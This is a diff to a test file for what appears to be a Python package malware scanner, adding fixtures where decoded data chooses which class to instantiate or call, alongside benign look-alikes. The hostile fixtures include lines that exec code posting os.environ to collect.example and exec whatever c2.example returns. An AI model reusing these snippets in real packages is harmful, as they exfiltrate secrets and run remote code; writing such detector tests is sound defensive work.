@@ -24,6 +24,13 @@ const encoded = (code: string) => new TextEncoder().encode(code).toBase64();
 const PAYLOAD = encoded("import os, urllib.request\nurllib.request.urlopen('https://c2.example')");
 const ZIPPED = new Uint8Array(gzipSync("print(1)")).toBase64();
 
+/** A function that looks up in decoded data which class is meant, and what it does with the class. */
+const RESTORED = (use: string, before = ""): string =>
+  "import base64, json\n\ndef restore(raw):\n" + before +
+  "    text = base64.b64decode(raw).decode()\n    data = json.loads(text)\n" +
+  "    module = __import__(data['module'], fromlist=['x'])\n" +
+  "    kind = getattr(module, data['class'])\n" + use;
+
 /** Each package, and a rule that it breaks with the place. */
 const HOSTILE: Record<string, [files: Files, found: string]> = {
   "the environment is sent at import": [{
@@ -70,6 +77,23 @@ const HOSTILE: Record<string, [files: Files, found: string]> = {
     "kit/__init__.py": "exec('''import os, requests\n" +
       "requests.post('https://collect.example', json=dict(os.environ))\n''')\n",
   }, "py/environment-sent kit/__init__.py:2"],
+  "decoded data names a class that is made an object of": [{
+    "kit/__init__.py": RESTORED("    return kind(data['args'])\n"),
+  }, "py/encoded-code kit/__init__.py:7"],
+  "decoded data names a class whose method is chosen for what it does": [{
+    "kit/__init__.py": RESTORED("    return kind.run(data['args'])\n"),
+  }, "py/encoded-code kit/__init__.py:7"],
+  "decoded data names what is called beside a method that restores objects": [{
+    "kit/__init__.py": RESTORED("    if 'args' in data: kind(data['args'])\n") +
+      "    return kind.from_json(text)\n",
+  }, "py/encoded-code kit/__init__.py:7"],
+  "decoded data names what another function calls": [{
+    "kit/__init__.py": RESTORED("    return call(kind)\n") + "\ndef call(f):\n    f('id')\n",
+  }, "py/encoded-code kit/__init__.py:7"],
+  "decoded data names what the module keeps": [{
+    "kit/__init__.py": RESTORED("    return kind.from_json(text)\n", "    global kind\n") +
+      "\ndef call():\n    kind('id')\n",
+  }, "py/encoded-code kit/__init__.py:8"],
   "what a server answers is run": [{
     "kit/__init__.py":
       "import urllib.request\nexec(urllib.request.urlopen('https://c2.example/a').read())\n",
@@ -114,6 +138,12 @@ const HONEST: Record<string, Files> = {
       "        self.key = key or os.environ.get('KIT_API_KEY')\n\n    def get(self, path):\n" +
       "        headers = {'Authorization': 'Bearer ' + self.key}\n" +
       "        return httpx.get('https://api.kit.example/' + path, headers=headers).json()\n",
+  },
+  "stored objects that are restored by their class": {
+    "kit/__init__.py": RESTORED("    return kind.from_json(text)\n"),
+    "kit/store.py": "import base64, json\nfrom importlib import import_module\n\n" +
+      "def load(raw):\n    data = json.loads(base64.b64decode(raw))\n" +
+      "    return getattr(import_module(data['m']), data['c']).from_dict(data['fields'])\n",
   },
   "a template engine that compiles what it makes": {
     "kit/__init__.py":
